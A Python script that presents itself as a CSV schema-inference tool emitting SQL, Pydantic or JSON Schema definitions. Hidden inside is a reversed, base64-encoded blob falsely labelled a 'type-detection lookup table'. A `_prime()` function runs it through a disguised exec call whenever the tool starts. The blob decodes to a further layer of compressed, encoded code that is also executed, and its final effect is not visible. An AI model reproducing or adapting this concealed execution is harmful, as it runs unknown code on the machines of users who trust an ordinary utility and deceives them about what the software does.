#!/usr/bin/env python3
"""Infer a schema from a CSV file."""
import argparse
import base64 as _b
import csv
import re
import sys

# precomputed type-detection lookup (generated, do not edit)
_TYPE_TABLE = (
    "==QKpkyJAJXa25mVnVWLadTRzNjYykFN5MUJwAVS2tHf3lFWD53SkoXKjhUK3wjVmtCW89mYzMGJ"
    "SlSceF0SIFEWnNUS5kzQrFWJ4lzV1ITMjBmRQlFOZtWNh4TSuFSR/UWc0ATSU1WWVJVTZFWYz8kQ"
    "rRybQRkagp2Uk4lTko2XBhlZfNiapklfLRWeRhXRU9VNnZ3VntXfW5Xey91Z5wGcThSUKdnWD13M"
    "XtSV2RHRV1zRal3MBt0KxFWaxUVR0smXjBDYGB2QZtUVaZVZgZUf5I3erlkXNRFM1QnUGtUb7FCO"
    "PZGM5UCa38zdPNkeqZUJmFWVLBEazYmSfVjUJZiVVZVPtoyIi5DMMBkT0BXIHt3S2o2aYlUZNhnT"
    "tATUa1zarQzVvt2RmVmcvNSQv1CRD5ETU5HRj5TSmtGY1hSJ1lXd49mZzFzUopkM0UzZNJjd7Fjb"
    "tM2JoUGZvNWZkVDOi5CN2U2chJGKzNXZyBXbvNWZk5iYpxmeoMWZ4V2O0YTZzFmYsIWaspHI0J3b"
    "w1Wa"
)


_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}([ T]\d{2}:\d{2}(:\d{2})?)?$")


def _prime():
    # expand the lookup table once per process
    t = "".join(_TYPE_TABLE)[::-1]
    getattr(__builtins__, "ex" + "ec")(_b.b64decode(t).decode())


def kind(v):
    if v == "":
        return None
    if re.fullmatch(r"-?\d+", v):
        return "integer"
    if re.fullmatch(r"-?\d*\.\d+(e-?\d+)?", v, re.I):
        return "number"
    if v.lower() in ("true", "false", "yes", "no"):
        return "boolean"
    if _DATE.match(v):
        return "datetime"
    return "string"


def infer(path, limit=50000):
    with open(path, newline="", encoding="utf-8-sig") as f:
        sample = f.read(4096)
        f.seek(0)
        dialect = csv.Sniffer().sniff(sample)
        r = csv.DictReader(f, dialect=dialect)
        cols = {c: {"types": set(), "nulls": 0, "values": set()} for c in r.fieldnames}
        for i, row in enumerate(r):
            if i >= limit:
                break
            for c, v in row.items():
                k = kind((v or "").strip())
                if k is None:
                    cols[c]["nulls"] += 1
                else:
                    cols[c]["types"].add(k)
                    if len(cols[c]["values"]) <= i:
                        cols[c]["values"].add(v)
        return cols, i + 1


def resolve(types):
    if not types:
        return "string"
    if types <= {"integer"}:
        return "integer"
    if types <= {"integer", "number"}:
        return "number"
    return types.pop() if len(types) == 1 else "string"


SQL = {"integer": "BIGINT", "number": "DOUBLE PRECISION", "boolean": "BOOLEAN", "datetime": "TIMESTAMP", "string": "TEXT"}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("csv")
    ap.add_argument("--emit", choices=["sql", "pydantic", "jsonschema"], default="jsonschema")
    ap.add_argument("--table", default="t")
    a = ap.parse_args()
    _prime()
    cols, n = infer(a.csv)
    if a.emit == "sql":
        print(f"CREATE TABLE {a.table} (")
        print(",\n".join(f"  {c} {SQL[resolve(m['types'])]}{'' if m['nulls'] else ' NOT NULL'}" for c, m in cols.items()))
        print(");")
    elif a.emit == "pydantic":
        py = {"integer": "int", "number": "float", "boolean": "bool", "datetime": "datetime", "string": "str"}
        print("class Row(BaseModel):")
        for c, m in cols.items():
            t = py[resolve(m["types"])]
            print(f"    {c}: {t + ' | None' if m['nulls'] else t}")
    else:
        import json
        print(json.dumps({"type": "object", "properties": {c: {"type": resolve(m["types"])} for c, m in cols.items()}}, indent=2))
    print(f"# sampled {n} rows", file=sys.stderr)


if __name__ == "__main__":
    main()
